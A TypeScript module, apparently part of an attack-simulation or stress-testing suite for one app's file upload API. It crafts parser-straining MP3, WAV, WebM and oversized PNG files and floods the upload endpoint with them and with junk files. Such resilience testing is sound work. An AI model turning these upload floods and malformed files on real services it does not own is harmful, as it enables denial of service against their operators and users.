import { hugePicture } from '../huge-picture.ts'
import { flood } from '../way.ts'
import type { Attacker, Way } from '../way.ts'

const upload = ({ ask, client }: Attacker, bytes: Buffer, name: string) => {
  const form = new FormData()
  form.set('file', new Blob([new Uint8Array(bytes)]), name)
  form.set('userId', String(client.userId))
  return ask('/api/file_upload', { method: 'POST', body: form, isKnown: true })
}

/** An mp3 that is one tag of a great many empty frames. */
function manyTags(bytes: number): Buffer {
  const frame = Buffer.from([0x54, 0x58, 0x58, 0, 0, 1, 0])
  const body = Buffer.alloc(bytes - (bytes % frame.length), frame)
  const size = [21, 14, 7, 0].map(shift => (body.length >> shift) & 0x7f)
  return Buffer.concat([Buffer.from('ID3\u0002\0\0', 'latin1'), Buffer.from(size), body])
}

/** A WAV with a list of empty pieces of information. */
function manyChunks(bytes: number): Buffer {
  const info = Buffer.alloc(bytes - (bytes % 8), Buffer.from('INAM\0\0\0\0', 'latin1'))
  const length = (value: number) => {
    const buffer = Buffer.alloc(4)
    buffer.writeUInt32LE(value)
    return buffer
  }
  const list = Buffer.concat([Buffer.from('LIST'), length(info.length + 4), Buffer.from('INFO'), info])
  return Buffer.concat([Buffer.from('RIFF'), length(list.length + 4), Buffer.from('WAVE'), list])
}

/** A WebM of elements that are nothing. */
const manyVoids = (bytes: number) =>
  Buffer.concat([
    Buffer.from('1a45dfa3874282847765626d18538067', 'hex'),
    Buffer.from('01ffffffffffffff', 'hex'),
    Buffer.alloc(bytes - (bytes % 2), Buffer.from([0xec, 0x80])),
  ])

export const sounds: Way = attacker => {
  const files = [manyTags(5_000_000), manyChunks(5_000_000)]
  return flood(attacker.over, 1, at =>
    upload(attacker, files[at % 2] ?? Buffer.alloc(0), at % 2 ? 'voice.wav' : 'voice.mp3'),
  )
}

export const films: Way = attacker => {
  const film = manyVoids(3_000_000)
  return flood(attacker.over, 1, () => upload(attacker, film, 'film.webm'))
}

export const pictures: Way = async attacker => {
  const picture = await hugePicture()
  await flood(attacker.over, 2, () => upload(attacker, picture, 'huge.png'))
}

/** Files that are never sent. */
export const unsent: Way = attacker => {
  const bytes = Buffer.alloc(2_000_000, 'unsent')
  return flood(attacker.over, 2, at => upload(attacker, bytes, `unsent-${at}.bin`))
}
